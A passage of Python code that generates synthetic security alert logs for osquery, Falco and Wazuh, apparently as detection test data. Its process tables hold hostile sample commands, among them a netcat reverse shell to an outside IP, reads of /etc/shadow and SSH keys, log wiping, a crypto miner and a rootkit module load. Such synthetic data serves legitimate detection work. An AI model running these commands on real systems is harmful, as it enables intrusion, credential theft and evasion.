            "c_config_valid": "1", "c_extensions": "active", "c_instance_id": uuid4(rng),
            "c_start_time": str(unix - rng.randint(100, 900000)), "c_watcher": str(rng.randint(300, 2000)),
        }
        if s.meta["name"] == "pack_incident-response_listening_ports":
            v["c_name"] = {22: "sshd", 80: "nginx", 443: "nginx", 5432: "postgres", 6379: "redis-server",
                           9100: "node_exporter", 31337: "nc"}.get(lp, v["c_name"])
        if s.meta["name"] == "pack_incident-response_crontab":
            v["c_path"] = rng.choice(["/etc/crontab", "/var/spool/cron/crontabs/root", f"/var/spool/cron/crontabs/{user}"])
        if s.meta["name"] == "pack_it-compliance_deb_packages":
            v["c_name"] = pk
        if s.meta["name"] == "pack_it-compliance_users":
            v["c_uid"] = v["c_gid"] = str(rng.randint(1005, 1010))
        if s.meta["name"] == "pack_incident-response_kernel_modules":
            v["c_address"] = f"0xffffffffc{rng.getrandbits(36):09x}"
            v["c_name"] = rng.choice(["nf_tables", "overlay", "br_netfilter", "diamorphine", "wireguard"])
        if s.meta["name"] == "pack_fim_file_events":
            v["c_size"] = str(fsize)
        if s.meta["name"] == "pack_osquery-monitoring_osquery_info":
            v["c_pid"] = str(rng.randint(300, 65000))
            v["c_uuid"] = huuid[h]
            v["c_version"] = ver[h]
        return v

    return generate(rng, specs, row_vals, jesc)


# =========================================================================== 3 falco
FALCO_LEVEL = {"Emergency": "FATAL", "Alert": "FATAL", "Critical": "FATAL", "Error": "ERROR",
               "Warning": "WARN", "Notice": "INFO", "Informational": "INFO", "Debug": "DEBUG"}
FALCO_NUMERIC = {"user.uid", "user.loginuid", "proc.tty", "fd.lport", "fd.rport", "proc.exe_ino.ctime",
                 "proc.exe_ino.mtime", "proc.exe_ino.ctime_duration_proc_start", "container.start_ts",
                 "proc.pid", "evt.time"}
F_PROC = [("evt_type", "evt.type"), ("user", "user.name"), ("user_uid", "user.uid"),
          ("user_loginuid", "user.loginuid"), ("process", "proc.name"), ("proc_exepath", "proc.exepath"),
          ("parent", "proc.pname"), ("command", "proc.cmdline"), ("terminal", "proc.tty")]
F_FLAGS = [("exe_flags", "evt.arg.flags")]
F_CONN = [("connection", "fd.name"), ("lport", "fd.lport"), ("rport", "fd.rport"), ("fd_type", "fd.type"),
          ("fd_proto", "fd.l4proto")]
F_ANC = [("gparent", "proc.aname[2]"), ("ggparent", "proc.aname[3]"), ("gggparent", "proc.aname[4]")]
F_CTR = [("container_id", "container.id"), ("container_image", "container.image.repository"),
         ("container_image_tag", "container.image.tag"), ("container_name", "container.name"),
         ("k8s_ns", "k8s.ns.name"), ("k8s_pod_name", "k8s.pod.name")]


def fph(field: str) -> str:
    return re.sub(r"[^a-z0-9]+", "_", field.lower()).strip("_")


def _falco_line(output: str, prio: str, rule: str, source: str, tags: list, ofields: dict) -> str:
    head = {"hostname": "{hostname}", "output": output, "priority": prio, "rule": rule, "source": source,
            "tags": tags, "time": "{time}"}
    return jfmt(head)[:-1] + ', "output_fields": ' + jfmt(sort_deep(ofields)) + "}"


def falco(weight, rule, prio, desc, fields, tags, *, host=False, fd=None, proc=None):
    parts = [f"{lab}={{{fph(f)}}}" for lab, f in fields]
    of = {f: ("#" + fph(f) + "#" if f in FALCO_NUMERIC else "{" + fph(f) + "}") for _, f in fields}
    if host:
        parts += ["container_id=host", "container_image=<NA>", "container_image_tag=<NA>",
                  "container_name=host", "k8s_ns=<NA>", "k8s_pod_name=<NA>"]
        of.update({"container.id": "host", "container.image.repository": None, "container.image.tag": None,
                   "container.name": "host", "k8s.ns.name": None, "k8s.pod.name": None})
    else:
        parts += [f"{lab}={{{fph(f)}}}" for lab, f in F_CTR]
        of.update({f: "{" + fph(f) + "}" for _, f in F_CTR})
    of["evt.time"] = "#evt_time#"
    output = "{otime}: " + prio + " " + desc + " | " + " ".join(parts)
    return Spec(weight, FALCO_LEVEL[prio], _falco_line(output, prio, rule, "syscall", tags, of),
                {"fd": fd, "proc": proc})


def falco_k8s(weight, rule, prio, desc, fields, tags):
    inner = " ".join(f"{lab}={{{fph(f)}}}" for lab, f in fields)
    of = {f: "{" + fph(f) + "}" for _, f in fields}
    of["evt.time"] = "#evt_time#"
    output = "{otime}: " + prio + " " + desc + " (" + inner + ")"
    return Spec(weight, FALCO_LEVEL[prio], _falco_line(output, prio, rule, "k8s_audit", tags, of), {})


def falco_specs() -> list[Spec]:
    P, FL, C, A = F_PROC, F_FLAGS, F_CONN, F_ANC
    ms = "maturity_stable"
    specs = [
        falco(170, "Terminal shell in container", "Notice",
              "A shell was spawned in a container with an attached terminal", P + FL,
              ["T1059", "container", ms, "mitre_execution", "shell"], proc="shell"),
        falco(70, "Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program",
              [("file", "fd.name")] + A + P, ["T1555", "container", "filesystem", "host", ms, "mitre_credential_access"],
              fd="sensitive", proc="reader"),
        falco(45, "Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program",
              [("file", "fd.name")] + A + P, ["T1555", "container", "filesystem", "host", ms, "mitre_credential_access"],
              host=True, fd="sensitive", proc="reader"),
        falco(14, "Write below etc", "Error", "File below /etc opened for writing",
              [("file", "fd.name"), ("pcmdline", "proc.pcmdline")] + A[:1] + P,
              ["T1098", "filesystem", "host", ms, "mitre_persistence"], fd="etc", proc="writer"),
        falco(4, "Write below binary dir", "Error", "File below a known binary directory opened for writing",
              [("file", "fd.name"), ("pcmdline", "proc.pcmdline")] + A[:1] + P,
              ["T1543", "filesystem", "host", ms, "mitre_persistence"], host=True, fd="bin", proc="writer"),
        falco(32, "Launch Privileged Container", "Informational", "Privileged container started", P,
              ["T1610", "cis", "container", ms, "mitre_execution"], proc="init"),
        falco(40, "Contact K8S API Server From Container", "Notice",
              "Unexpected connection to K8s API Server from container", C + P,
              ["T1565", "container", "k8s", ms, "mitre_discovery", "network"], fd="k8sapi", proc="client"),
        falco(28, "Unexpected outbound connection destination", "Notice", "Disallowed outbound connection destination",
              C + P, ["TA0011", "container", "host", "maturity_sandbox", "mitre_command_and_control", "network"],
              fd="conn", proc="client"),
        falco(5, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
              "Redirect stdout/stdin to network connection", A + [("fd.sip", "fd.sip")] + C + P,
              ["T1059", "container", ms, "mitre_execution", "network", "process"], fd="conn", proc="shell"),
        falco(20, "Run shell untrusted", "Notice", "Shell spawned by untrusted binary",
              [("parent_exe", "proc.pexe"), ("parent_exepath", "proc.pexepath"), ("pcmdline", "proc.pcmdline")] + A + P + FL,
              ["T1059.004", "container", "host", ms, "mitre_execution", "process", "shell"], proc="shell"),
        falco(6, "Clear Log Activities", "Warning", "Log files were tampered", [("file", "fd.name")] + P,
              ["NIST_800-53_AU-10", "T1070", "container", "filesystem", "host", ms, "mitre_defense_evasion"],
              host=True, fd="log", proc="writer"),
        falco(4, "Search Private Keys or Passwords", "Warning", "Grep private keys or passwords activities found",
              P + FL, ["T1552.001", "container", "filesystem", "host", ms, "mitre_credential_access", "process"],
              proc="grep"),
        falco(3, "Netcat Remote Code Execution in Container", "Warning",
              "Netcat runs inside container that allows remote code execution", P + FL,
              ["T1059", "container", ms, "mitre_execution", "network", "process"], proc="nc"),
        falco(6, "Packet socket created in container", "Notice", "Packet socket was created in a container",
              [("socket_info", "evt.args")] + C + P, ["T1557.002", "container", ms, "mitre_credential_access", "network"],
              fd="raw", proc="sniffer"),
        falco(24, "Launch Package Management Process in Container", "Error",
              "Package management process launched in container", P + FL,
              ["T1505", "container", "maturity_incubating", "mitre_persistence", "process", "software_mgmt"], proc="pkg"),
        falco(15, "Change thread namespace", "Notice", "Namespace change (setns) by unexpected program", P,
              ["T1611", "container", ms, "mitre_privilege_escalation", "process"], host=True, proc="ns"),
        falco(10, "Non sudo setuid", "Notice", "Unexpected setuid call by non-sudo, non-root program", P + FL,
              ["T1548.001", "container", "host", "maturity_sandbox", "mitre_privilege_escalation", "users"],
              host=True, proc="setuid"),
        falco(5, "Drop and execute new binary in container", "Critical", "Executing binary not part of base image",
              [("proc_exe", "proc.exe"), ("proc_sname", "proc.sname"), ("gparent", "proc.aname[2]"),
               ("proc_exe_ino_ctime", "proc.exe_ino.ctime"), ("proc_exe_ino_mtime", "proc.exe_ino.mtime"),
               ("proc_exe_ino_ctime_duration_proc_start", "proc.exe_ino.ctime_duration_proc_start"),
               ("proc_cwd", "proc.cwd"), ("container_start_ts", "container.start_ts")] + P + FL,
              ["PCI_DSS_11.5.1", "T1610", "TA0003", "container", ms, "mitre_persistence", "process"], proc="dropper"),
        falco(0.8, "Detect crypto miners using the Stratum protocol", "Critical", "Possible miner running", P + FL,
              ["T1496", "container", "host", ms, "mitre_impact", "process"], proc="miner"),
        falco(0.6, "Linux Kernel Module Injection Detected", "Warning",
              "Linux Kernel Module injection from container detected",
              [("parent_exepath", "proc.pexepath")] + A + P + [("res", "evt.res")],
              ["T1547.006", "TA0003", "container", ms, "mitre_persistence", "process"], proc="insmod"),
        falco(0.5, "Fileless execution via memfd_create", "Critical", "Fileless execution via memfd_create",
              [("container_start_ts", "container.start_ts"), ("proc_cwd", "proc.cwd"), ("evt_res", "evt.res"),
               ("proc_sname", "proc.sname"), ("gparent", "proc.aname[2]")] + P + FL,
              ["T1620", "container", "host", ms, "mitre_defense_evasion", "process"], proc="dropper"),
        falco_k8s(10, "Attach/Exec Pod", "Notice", "Attach/Exec to pod",
                  [("user", "ka.user.name"), ("pod", "ka.target.name"), ("resource", "ka.target.resource"),
                   ("ns", "ka.target.namespace"), ("action", "ka.target.subresource"),
                   ("command", "ka.uri.param[command]")], ["NIST_800-53_AC-6", "k8s"]),
        falco_k8s(0.7, "Create Privileged Pod", "Warning", "Pod started with privileged container",
                  [("user", "ka.user.name"), ("pod", "ka.resp.name"), ("resource", "ka.target.resource"),
                   ("ns", "ka.target.namespace"), ("images", "ka.req.pod.containers.image")],
                  ["NIST_800-53_AC-6", "k8s"]),
    ]
    drop_fields = {k: "{" + k + "}" for k in ["ebpf_enabled", "n_drops", "n_drops_buffer_clone_fork_enter",
                                              "n_drops_buffer_clone_fork_exit", "n_drops_buffer_connect_enter",
                                              "n_drops_buffer_execve_enter", "n_drops_buffer_execve_exit",
                                              "n_drops_buffer_open_enter", "n_drops_buffer_total", "n_drops_bug",
                                              "n_drops_page_fault", "n_drops_scratch_map", "n_evts"]}
    drop = {"hostname": "{hostname}", "output": "Falco internal: syscall event drop. {n_drops} system calls "
            "dropped in last second.", "output_fields": drop_fields, "priority": "Debug",
            "rule": "Falco internal: syscall event drop", "time": "{time}"}
    specs.append(Spec(3, "DEBUG", jfmt(drop), {}))
    return specs


# kind: proc.name | proc.exepath | proc.cmdline | proc.pname
FALCO_PROCS = """
shell: bash | /usr/bin/bash | bash | runc
reader: cat | /usr/bin/cat | cat /etc/shadow | bash
reader: python3 | /usr/bin/python3.11 | python3 dump.py | bash
reader: vim | /usr/bin/vim.basic | vim /etc/sudoers | sudo
daemon: sshd | /usr/sbin/sshd | sshd: root [priv] | sshd
daemon: nginx | /usr/sbin/nginx | nginx: worker process | nginx
writer: sed | /usr/bin/sed | sed -i s/^PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config | bash
writer: tee | /usr/bin/tee | tee -a /etc/hosts | sudo
writer: python3 | /usr/bin/python3.11 | python3 /tmp/x.py | bash
writer: truncate | /usr/bin/truncate | truncate -s 0 /var/log/auth.log | bash
init: pause | /pause | /pause | containerd-shim
init: calico-node | /usr/bin/calico-node | calico-node -felix | runc
client: curl | /usr/bin/curl | curl -sk https://kubernetes.default/api/v1/secrets | bash
client: python3 | /usr/local/bin/python3.12 | python3 -m app.sync | sh
client: kubectl | /usr/local/bin/kubectl | kubectl get pods -A | bash
grep: grep | /usr/bin/grep | grep -r BEGIN RSA PRIVATE /home | bash
grep: find | /usr/bin/find | find / -name id_rsa | sh
nc: nc | /usr/bin/nc.traditional | nc -e /bin/sh 45.61.137.9 4444 | bash
sniffer: tcpdump | /usr/bin/tcpdump | tcpdump -i eth0 -w /tmp/c.pcap | bash
pkg: apt-get | /usr/bin/apt-get | apt-get install -y nmap | bash
pkg: apk | /sbin/apk | apk add --no-cache curl | sh
pkg: pip | /usr/local/bin/pip | pip install requests | sh
ns: nsenter | /usr/bin/nsenter | nsenter -t 1 -m -u -i -n sh | bash
ns: containerd-shim | /usr/bin/containerd-shim-runc-v2 | containerd-shim-runc-v2 -namespace k8s.io | systemd
setuid: su | /usr/bin/su | su - postgres | bash
setuid: newgrp | /usr/bin/newgrp | newgrp docker | bash
dropper: x | /tmp/x | /tmp/x -c /tmp/.cfg | sh
dropper: kworkerd | /dev/shm/kworkerd | kworkerd | bash
miner: xmrig | /tmp/xmrig | xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx | sh
insmod: insmod | /usr/sbin/insmod | insmod /tmp/rk.ko | bash
"""


def make_falco(rng: random.Random) -> list[dict]:
    specs = falco_specs()
    clock = Clock(rng, 4.0)
    nodes = Z(rng, ["ip-10-0-12-34.ec2.internal", "ip-10-0-41-7.ec2.internal", "ip-10-0-77-201.ec2.internal",
                    "gke-prod-pool-1-8f3a2c1d-x9z2", "worker-03", "worker-04"], 1.0)
    ctr = Z(rng, [("nginx", "docker.io/library/nginx", "1.25.4", "default"),
                  ("api", "ghcr.io/acme/api", "v2.14.0", "payments"),
                  ("worker", "ghcr.io/acme/worker", "v2.14.0", "payments"),
                  ("redis", "docker.io/library/redis", "7.2-alpine", "cache"),
                  ("postgres", "docker.io/library/postgres", "16.2", "db"),
                  ("debug", "docker.io/nicolaka/netshoot", "latest", "default"),
                  ("jenkins-agent", "docker.io/jenkins/inbound-agent", "3206.vb_15dcf73f6a_9-1", "ci"),
                  ("grafana", "docker.io/grafana/grafana", "10.4.2", "monitoring")], 1.1)
    users = Z(rng, [("root", 0), ("www-data", 33), ("nobody", 65534), ("ubuntu", 1000), ("app", 10001)], 1.3)
    shells = Z(rng, [("bash", "/usr/bin/bash", "bash"), ("sh", "/bin/busybox", "sh -c ls -la /app"),
                     ("bash", "/bin/bash", "bash -il"), ("sh", "/usr/bin/dash", "sh -c curl -s http://169.254.169.254/latest/meta-data/")], 1.2)
    sens = Z(rng, ["/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth", "/etc/shadow-", "/root/.ssh/id_rsa",
                   "/etc/gshadow"], 1.3)
    kapi = Z(rng, ["10.96.0.1", "172.20.0.1"], 1.0)
    remote = Z(rng, ip_pool(rng, 12) + ["169.254.169.254"], 1.1)
    pools: dict = {}
    for ln in FALCO_PROCS.strip().splitlines():
        kind, rest = ln.split(":", 1)
        pools.setdefault(kind.strip(), []).append(tuple(x.strip() for x in rest.split("|")))
    fdpools = {"etc": ["/etc/hosts", "/etc/ssh/sshd_config", "/etc/passwd", "/etc/resolv.conf", "/etc/ld.so.preload"],
        "bin": ["/usr/bin/ls", "/usr/local/bin/kubectl", "/bin/ps"],
        "log": ["/var/log/auth.log", "/var/log/syslog", "/var/log/nginx/access.log"],
        "raw": ["<NA>"],
    }
    evt_type = {"shell": "execve", "reader": "openat", "daemon": "openat", "writer": "openat", "init": "container",
                "client": "connect", "shred": "execve", "grep": "execve", "nc": "execve", "sniffer": "socket",
                "pkg": "execve", "ns": "setns", "setuid": "setuid", "dropper": "execve", "miner": "execve",
                "insmod": "init_module", "web": "openat", "debugger": "ptrace"}

    def row_vals(s: Spec) -> dict:
        t = clock.tick(rng)
        ns_ = rng.randint(0, 999)
        c_name, img, tag, k8ns = ctr(rng)
        uname, uid = users(rng)
        pk = s.meta.get("proc") or "shell"
        pname, exe, cmd, parent = rng.choice(pools[pk])
        if pk == "shell":
            pname, exe, cmd = shells(rng)
        fdk = s.meta.get("fd")
        lip = f"10.244.{rng.randint(0, 9)}.{rng.randint(2, 250)}"
        lport = eport(rng)
        if fdk == "k8sapi":
            rip, rport = kapi(rng), 443
        else:
            rip, rport = remote(rng), rng.choice([443, 80, 4444, 8080, 53])
        conn = f"{lip}:{lport}->{rip}:{rport}"
        if fdk == "sensitive":
            fname = sens(rng)
        elif fdk in fdpools:
            fname = rng.choice(fdpools[fdk])
        else:
            fname = conn
        ptime = t.replace(microsecond=0) - timedelta(seconds=rng.randint(5, 900))
        sts = int(ptime.timestamp()) * 10**9 + rng.randint(0, 10**9 - 1)
        ens = int(t.timestamp()) * 10**9 + t.microsecond * 1000 + ns_
        nd = rng.choice([1, 3, 17, 42, 118, 1024])
        pod = f"{c_name}-{hexs(rng, 9)[:9]}-{hexs(rng, 5)}"
        return {"hostname": nodes(rng), "time": t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}{ns_:03d}Z",
            "otime": t.strftime("%H:%M:%S.") + f"{t.microsecond:06d}{ns_:03d}", "evt_time": ens,
            "evt_type": evt_type.get(pk, "execve"), "user_name": uname, "user_uid": uid,
            "user_loginuid": rng.choice([-1, -1, -1, 1000]), "proc_name": pname, "proc_exepath": exe,
            "proc_pname": parent, "proc_cmdline": cmd, "proc_tty": rng.choice([0, 34816, 34817]),
            "evt_arg_flags": rng.choice(["EXE_WRITABLE", "EXE_UPPER_LAYER", "EXE_WRITABLE|EXE_UPPER_LAYER", "0"]),
            "fd_name": fname, "fd_lport": lport, "fd_rport": rport,
            "fd_type": "ipv4" if fdk not in ("raw",) else "<NA>", "fd_l4proto": "tcp" if fdk != "raw" else "<NA>",
            "fd_sip": rip, "evt_args": "domain=17(AF_PACKET) type=3 proto=768",
            "proc_aname_2": rng.choice(["containerd-shim", "runc", "sshd", "bash", "systemd"]),
            "proc_aname_3": rng.choice(["containerd-shim", "systemd", "sshd"]), "proc_aname_4": "systemd",
            "proc_pcmdline": f"{parent} -c {cmd}" if rng.random() < 0.5 else parent,
            "proc_pexe": "/usr/bin/" + parent, "proc_pexepath": "/usr/bin/" + parent,
            "proc_exe": exe, "proc_sname": rng.choice(["bash", "sh", "containerd-shim"]),
            "proc_exe_ino_ctime": sts + rng.randint(10**9, 60 * 10**9), "proc_exe_ino_mtime": sts + rng.randint(10**9, 60 * 10**9),
            "proc_exe_ino_ctime_duration_proc_start": rng.randint(10**8, 10**11),
            "proc_cwd": rng.choice(["/", "/tmp/", "/app/", "/root/"]), "container_start_ts": sts,
            "evt_res": "SUCCESS", "container_id": hexs(rng, 12), "container_image_repository": img,
            "container_image_tag": tag, "container_name": c_name, "k8s_ns_name": k8ns, "k8s_pod_name": pod,
            "ka_user_name": rng.choice(["admin", "system:serviceaccount:ci:deployer", "alice@example.com",
                                        "kubernetes-admin"]),
            "ka_target_name": pod, "ka_resp_name": pod, "ka_target_resource": "pods", "ka_target_namespace": k8ns,
            "ka_target_subresource": rng.choice(["exec", "attach"]),
            "ka_uri_param_command": rng.choice(["sh", "bash", "/bin/sh -c env"]),
            "ka_req_pod_containers_image": f"[{img}:{tag}]",
            "ebpf_enabled": "1", "n_drops": str(nd), "n_drops_buffer_clone_fork_enter": "0",
            "n_drops_buffer_clone_fork_exit": "0", "n_drops_buffer_connect_enter": "0",
            "n_drops_buffer_execve_enter": "0", "n_drops_buffer_execve_exit": "0",
            "n_drops_buffer_open_enter": str(nd), "n_drops_buffer_total": str(nd), "n_drops_bug": "0",
            "n_drops_page_fault": "0", "n_drops_scratch_map": "0", "n_evts": str(rng.randint(10**5, 10**7)),
        }

    return generate(rng, specs, row_vals, jesc)


# =========================================================================== 4 ossec / wazuh
def _wz_level(level: int) -> str:
    return "INFO" if level <= 4 else "WARN" if level <= 7 else "ERROR" if level <= 11 else "FATAL"


C_AUTH_OK = {"pci_dss": ["10.2.5"], "gpg13": ["7.1", "7.2"], "gdpr": ["IV_32.2"], "hipaa": ["164.312.b"],
             "nist_800_53": ["AU.14", "AC.7"], "tsc": ["CC6.8", "CC7.2", "CC7.3"]}
C_AUTH_FAIL = {"pci_dss": ["10.2.4", "10.2.5"], "gpg13": ["7.1"], "gdpr": ["IV_35.7.d", "IV_32.2"],
               "hipaa": ["164.312.b"], "nist_800_53": ["AU.14", "AC.7"], "tsc": ["CC6.1", "CC6.8", "CC7.2", "CC7.3"]}
C_BRUTE = {"pci_dss": ["11.4", "10.2.4", "10.2.5"], "gpg13": ["7.1"], "gdpr": ["IV_35.7.d", "IV_32.2"],
           "hipaa": ["164.312.b"], "nist_800_53": ["SI.4", "AU.14", "AC.7"], "tsc": ["CC6.1", "CC6.8", "CC7.2", "CC7.3"]}
C_SUDO = {"pci_dss": ["10.2.5", "10.2.2"], "gpg13": ["7.6", "7.8", "7.13"], "gdpr": ["IV_32.2"],
          "hipaa": ["164.312.b"], "nist_800_53": ["AU.14", "AC.7", "AC.6"], "tsc": ["CC6.8", "CC7.2", "CC7.3"]}
C_WEB = {"pci_dss": ["6.5", "11.4"], "gdpr": ["IV_35.7.d"], "hipaa": ["164.312.b"], "nist_800_53": ["SA.11", "SI.4"],
         "tsc": ["CC6.6", "CC7.1", "CC8.1", "CC6.1", "CC6.8", "CC7.2", "CC7.3"]}
C_WEB400 = {"pci_dss": ["6.5", "11.4"], "gdpr": ["IV_35.7.d"], "nist_800_53": ["SA.11", "SI.4"],
            "tsc": ["CC6.6", "CC7.1", "CC8.1", "CC6.1", "CC6.8", "CC7.2", "CC7.3"]}
C_FIM = {"pci_dss": ["11.5"], "gpg13": ["4.11"], "gdpr": ["II_5.1.f"], "hipaa": ["164.312.c.1", "164.312.c.2"],
         "nist_800_53": ["SI.7"], "tsc": ["PI1.4", "PI1.5", "CC6.1", "CC6.8", "CC7.2", "CC7.3"]}
C_AGENT = {"pci_dss": ["10.6.1", "10.2.6"], "gpg13": ["10.1"], "gdpr": ["IV_35.7.d"], "hipaa": ["164.312.b"],
           "nist_800_53": ["AU.6", "AU.14", "AU.5"], "tsc": ["CC7.2", "CC7.3", "CC6.8", "A1.2"]}
C_PKG = {"pci_dss": ["10.6.1", "10.2.7"], "gpg13": ["4.10"], "gdpr": ["IV_35.7.d"], "hipaa": ["164.312.b"],
         "nist_800_53": ["AU.6", "AU.14"], "tsc": ["CC7.2", "CC7.3", "CC6.8"]}
M_BRUTE = {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]}
M_SSH = {"id": ["T1078", "T1021"], "tactic": ["Defense Evasion", "Persistence", "Privilege Escalation",
                                              "Initial Access", "Lateral Movement"],
         "technique": ["Valid Accounts", "Remote Services"]}
M_PWD = {"id": ["T1110.001", "T1021.004"], "tactic": ["Credential Access", "Lateral Movement"],
         "technique": ["Password Guessing", "SSH"]}
M_SUDO = {"id": ["T1548.003"], "tactic": ["Privilege Escalation", "Defense Evasion"], "technique": ["Sudo and Sudo Caching"]}
M_SQLI = {"id": ["T1190"], "tactic": ["Initial Access"], "technique": ["Exploit Public-Facing Application"]}
M_FIM = {"id": ["T1565.001"], "tactic": ["Impact"], "technique": ["Stored Data Manipulation"]}


def wz(weight, rid, level, desc, groups, full_log, *, location="{auth_log}", decoder=None, data=None,
       prog=None, comp=None, mitre=None, manager=False, extra=None, frequency=False):
    rule = {"level": level, "description": desc, "id": rid}
    if mitre:
        rule["mitre"] = mitre
    rule["firedtimes"] = "#firedtimes#"
    if frequency:
        rule["frequency"] = "#frequency#"
    rule["mail"] = level >= 12
    rule["groups"] = groups
    if comp:
        rule.update(comp)
    obj = {"timestamp": "{ts}", "rule": rule}
    obj["agent"] = {"id": "{mgr_agent_id}", "name": "{manager}"} if manager else \
        {"id": "{agent_id}", "name": "{agent_name}", "ip": "{agent_ip}"}
    obj["manager"] = {"name": "{manager}"}
    obj["id"] = "{alert_id}"
    if frequency:
        obj["previous_output"] = "{previous_output}"
    if full_log is not None:
        obj["full_log"] = full_log
    if prog:
        obj["predecoder"] = {"program_name": prog, "timestamp": "{sts}", "hostname": "{agent_name}"}
    if extra:
        obj.update(extra)
    if decoder:
        obj["decoder"] = decoder
    if data:
        obj["data"] = data
    obj["location"] = location
    return Spec(weight, _wz_level(level), jfmt(obj), {})


def ossec_specs() -> list[Spec]:
    sshd = {"parent": "sshd", "name": "sshd"}
    pam = {"parent": "pam", "name": "pam"}
    sudo = {"parent": "sudo", "name": "sudo"}
    web = {"name": "web-accesslog"}
    d_ssh = {"srcip": "{srcip}", "srcport": "{srcport}", "dstuser": "{user}"}
    d_web = {"protocol": "GET", "srcip": "{srcip}", "id": "{http_status}", "url": "{url}"}
    g_ok = ["syslog", "sshd", "authentication_success"]
    g_fail = ["syslog", "sshd", "authentication_failed"]
    g_inv = ["syslog", "sshd", "authentication_failed", "invalid_login"]
    sl = "{sts} {agent_name} "
    alog = '{srcip} - - [{clf}] "GET {url} HTTP/1.1" {http_status} {bytes} "{referer}" "{ua}"'

    def syscheck(event):
        sc = {"path": "{fim_path}", "mode": "{fim_mode}"}
        if event == "modified":
            sc.update({"size_before": "{size_before}"})
        sc.update({"size_after": "{size_after}", "perm_after": "{perm}", "uid_after": "{fuid}", "gid_after": "{fgid}"})
        for h in ("md5", "sha1", "sha256"):
            if event == "modified":
                sc[h + "_before"] = "{" + h + "_b}"
            sc[h + "_after"] = "{" + h + "_a}"
        sc.update({"uname_after": "{funame}", "gname_after": "{fgname}"})
        if event == "modified":
            sc["mtime_before"] = "{mtime_b}"
        sc.update({"mtime_after": "{mtime_a}", "inode_after": "#inode#"})
        if event == "modified":
            sc["changed_attributes"] = ["size", "mtime", "md5", "sha1", "sha256"]
        sc["event"] = event
        return {"syscheck": sc}

    specs = [
        wz(210, "5715", 3, "sshd: authentication success.", g_ok,
           sl + "sshd[{pid}]: Accepted publickey for {user} from {srcip} port {srcport} ssh2: {keytype} SHA256:{fp}",
           decoder=sshd, data=d_ssh, prog="sshd", comp=C_AUTH_OK, mitre=M_SSH),
        wz(45, "5715", 3, "sshd: authentication success.", g_ok,
           sl + "sshd[{pid}]: Accepted password for {user} from {srcip} port {srcport} ssh2",
           decoder=sshd, data=d_ssh, prog="sshd", comp=C_AUTH_OK, mitre=M_SSH),
        wz(120, "5760", 5, "sshd: authentication failed.", g_fail,
           sl + "sshd[{pid}]: Failed password for {user} from {srcip} port {srcport} ssh2",
           decoder=sshd, data=d_ssh, prog="sshd", comp=C_AUTH_FAIL, mitre=M_PWD),
        wz(150, "5710", 5, "sshd: Attempt to login using a non-existent user", g_inv,
           sl + "sshd[{pid}]: Invalid user {user} from {srcip} port {srcport}",
           decoder=sshd, data=d_ssh, prog="sshd", comp=C_AUTH_FAIL, mitre=M_BRUTE),
        wz(14, "5712", 10, "sshd: brute force trying to get access to the system. Non existent user.",
           ["syslog", "sshd", "authentication_failures"],
           sl + "sshd[{pid}]: Invalid user {user} from {srcip} port {srcport}",
           decoder=sshd, data=d_ssh, prog="sshd", comp=C_BRUTE, mitre=M_BRUTE, frequency=True),
        wz(7, "5763", 10, "sshd: brute force trying to get access to the system. Authentication failed.",
           ["syslog", "sshd", "authentication_failures"],
           sl + "sshd[{pid}]: Failed password for {user} from {srcip} port {srcport} ssh2",
           decoder=sshd, data=d_ssh, prog="sshd", comp=C_BRUTE, mitre=M_BRUTE, frequency=True),
        wz(22, "5706", 6, "sshd: insecure connection attempt (scan).", ["syslog", "sshd", "recon"],
           sl + "sshd[{pid}]: Did not receive identification string from {srcip} port {srcport}",
           decoder=sshd, data={"srcip": "{srcip}", "srcport": "{srcport}"}, prog="sshd",
           comp={"pci_dss": ["11.4"], "gpg13": ["4.12"], "gdpr": ["IV_35.7.d"], "nist_800_53": ["SI.4"],
                 "tsc": ["CC6.1", "CC6.8", "CC7.2", "CC7.3"]},
           mitre={"id": ["T1190"], "tactic": ["Initial Access"], "technique": ["Exploit Public-Facing Application"]}),
        wz(175, "5501", 3, "PAM: Login session opened.", ["pam", "syslog", "authentication_success"],
           sl + "sshd[{pid}]: pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid={by_uid})",
           decoder=pam, data={"dstuser": "{user}", "uid": "{by_uid}"}, prog="sshd", comp=C_AUTH_OK,
           mitre={"id": ["T1078"], "tactic": ["Defense Evasion", "Persistence", "Privilege Escalation", "Initial Access"],
                  "technique": ["Valid Accounts"]}),
        wz(170, "5502", 3, "PAM: Login session closed.", ["pam", "syslog"],
           sl + "sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}",
           decoder=pam, data={"dstuser": "{user}"}, prog="sshd",
           comp={"pci_dss": ["10.2.5"], "gpg13": ["7.8", "7.9"], "gdpr": ["IV_32.2"], "hipaa": ["164.312.b"],
                 "nist_800_53": ["AU.14", "AC.7"], "tsc": ["CC6.8", "CC7.2", "CC7.3"]}),
        wz(55, "5503", 5, "PAM: User login failed.", ["pam", "syslog", "authentication_failed"],
           sl + "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid={by_uid} euid={by_uid} "
           "tty=ssh ruser= rhost={srcip}  user={user}",
           decoder=pam, data={"srcip": "{srcip}", "dstuser": "{user}", "uid": "{by_uid}", "euid": "{by_uid}",
                              "tty": "ssh"}, prog="sshd", comp=C_AUTH_FAIL,
           mitre={"id": ["T1110.001"], "tactic": ["Credential Access"], "technique": ["Password Guessing"]}),
        wz(90, "5402", 3, "Successful sudo to ROOT executed.", ["syslog", "sudo"],
           sl + "sudo: {user} : TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={command}",
           decoder=sudo, data={"srcuser": "{user}", "dstuser": "root", "tty": "{tty}", "pwd": "{pwd}",
                               "command": "{command}"}, prog="sudo", comp=C_SUDO, mitre=M_SUDO),
        wz(4, "5401", 5, "Three failed attempts to run sudo", ["syslog", "sudo"],
           sl + "sudo: {user} : {n_more} incorrect password attempts ; TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={command}",
           decoder=sudo, data={"srcuser": "{user}", "dstuser": "root", "tty": "{tty}", "pwd": "{pwd}",
